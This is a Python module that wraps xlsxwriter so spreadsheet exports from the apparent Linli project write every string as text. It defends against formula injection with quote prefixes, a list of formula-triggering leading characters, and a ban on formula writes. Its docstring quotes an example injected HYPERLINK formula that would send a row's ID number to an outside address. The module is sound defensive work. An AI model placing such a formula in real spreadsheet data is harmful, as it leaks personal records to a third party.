"""Workbooks Linli writes 表格输出 — the one way a value becomes a cell, for every module.

Text always goes in as text. A plain xlsxwriter worksheet turns a string starting with "=" into
a live formula when it is written with `write()` or `write_row()`, so a household address typed
as `=HYPERLINK("http://…"&A2,"点击")` would reach the reader's Excel as a link that sends the
row's ID number away (formula injection, CWE-1236). Here:

- every string is written as a string cell, whichever `write…` method a writer calls;
- a string that Excel or LibreOffice would read as a formula or a command when someone edits
  the cell (starting with = + - @, a tab or a carriage return) also carries the quote prefix
  (`quotePrefix` in the file, Excel's leading apostrophe): it is shown exactly as stored and
  stays text even after the cell is edited. The value itself is not changed, so a workbook
  read back (an error report handed in again) gives the same text.

Use `Workbook(target, big=…)` where `xlsxwriter.Workbook` would be used; its sheets are
`TextSheet`s.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable

import xlsxwriter
from django.utils.translation import gettext as _
from xlsxwriter.format import Format
from xlsxwriter.worksheet import Worksheet

# What makes a spreadsheet program read a cell as a formula or a command (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def reads_as_formula(text: str) -> bool:
    """Whether `text`, typed into a cell, would be taken for a formula rather than text."""
    return text.startswith(FORMULA_STARTS)


class TextSheet(Worksheet):
    """A worksheet whose text stays text (see the module docstring). Numbers are written as
    numbers and None as an empty cell; strings are never formulas or links."""

    # Set by `Workbook.add_worksheet`: the cell format with the quote prefix added.
    quoted: Callable[[Format | None], Format] | None = None

    def write_string(self, row, col, string, cell_format=None):
        if reads_as_formula(string):
            assert self.quoted is not None, "a TextSheet comes from linli's Workbook"
            cell_format = self.quoted(cell_format)
        return super().write_string(row, col, string, cell_format)

    def write(self, row, col, *args):
        value = args[0] if args else None
        if isinstance(value, str) and value:  # "" stays an empty cell, as xlsxwriter has it
            return self.write_string(row, col, *args)
        return super().write(row, col, *args)

    def write_row(self, row, col, data: Iterable, cell_format=None):
        for offset, value in enumerate(data):
            self.write(row, col + offset, value, cell_format)
        return 0

    def write_column(self, row, col, data: Iterable, cell_format=None):
        for offset, value in enumerate(data):
            self.write(row + offset, col, value, cell_format)
        return 0

    def write_formula(self, *args, **kwargs):
        raise TypeError("Linli's workbooks hold values, never formulas.")

    write_array_formula = write_dynamic_array_formula = write_formula


class Workbook(xlsxwriter.Workbook):
    """An xlsxwriter workbook of `TextSheet`s. `big` streams rows to disk as they are written
    (constant memory, for exports of a whole district) instead of building it in memory."""

    worksheet_class = TextSheet

    def __init__(self, target, *, big: bool = False):
        # Set first: xlsxwriter adds its default formats while it sets itself up.
        self._properties: dict[int, dict] = {}
        self._quoted: dict[int | None, Format] = {}
        super().__init__(
            target,
            {
                "constant_memory": big,
                "in_memory": not big,
                # Even a plain write() keeps "=…", "http://…" and "00123" as the text they are.
                "strings_to_formulas": False,
                "strings_to_urls": False,
                "strings_to_numbers": False,
            },
        )

    def add_format(self, properties=None) -> Format:
        cell_format = super().add_format(properties)
        self._properties[id(cell_format)] = dict(properties or {})
        return cell_format

    def add_worksheet(self, name=None, worksheet_class=None):
        sheet = super().add_worksheet(name, worksheet_class)
        sheet.quoted = self.quoted_format
        return sheet

    def quoted_format(self, cell_format: Format | None) -> Format:
        """`cell_format` (None: the default) with the quote prefix; made once per format, from
        the properties the format was created with."""
        key = None if cell_format is None else id(cell_format)
        if key not in self._quoted:
            properties = {} if key is None else self._properties[key]
            self._quoted[key] = super().add_format({**properties, "quote_prefix": True})
        return self._quoted[key]


# --- figure workbooks: what every dashboard's export writes -------------------------------------


def figure_formats(workbook: Workbook) -> dict:
    """The formats of a figures workbook: a title, table headers, percentages, bold."""
    return {
        "title": workbook.add_format({"bold": True, "font_size": 13}),
        "header": workbook.add_format({"bold": True, "bg_color": "#E8F0FE", "border": 1}),
        "percent": workbook.add_format({"num_format": "0.0%"}),
        "bold": workbook.add_format({"bold": True}),
    }


def write_headers(sheet, row: int, headers: list[str], formats: dict) -> None:
    for col, header in enumerate(headers):
        sheet.write_string(row, col, header, formats["header"])


def write_values(sheet, row: int, values: Iterable, formats: dict, percent: set[int]) -> None:
    """One row: numbers as numbers (those in the `percent` columns as percentages), nothing
    as a blank cell, the rest as text."""
    for col, value in enumerate(values):
        if value is None:
            sheet.write_blank(row, col, None)
        elif col in percent:
            sheet.write_number(row, col, value, formats["percent"])
        elif isinstance(value, int | float):
            sheet.write_number(row, col, value)
        else:
            sheet.write_string(row, col, str(value))


def write_figure_rows(sheet, first_row: int, rows, formats: dict) -> None:
    """(name, label, value) rows as two columns, a name ending in `_share` as a percentage; a
    label indented with two spaces (a part of the figure above) is written without them."""
    write_headers(sheet, first_row - 1, [_("Figure"), _("Value")], formats)
    sheet.set_column(0, 0, 44)
    sheet.set_column(1, 1, 14)
    for line, (name, label, value) in enumerate(rows, start=first_row):
        percent = {1} if name.endswith("_share") else set()
        write_values(
            sheet,
            line,
            [label.strip() if label.startswith("  ") else label, value],
            formats,
            percent,
        )
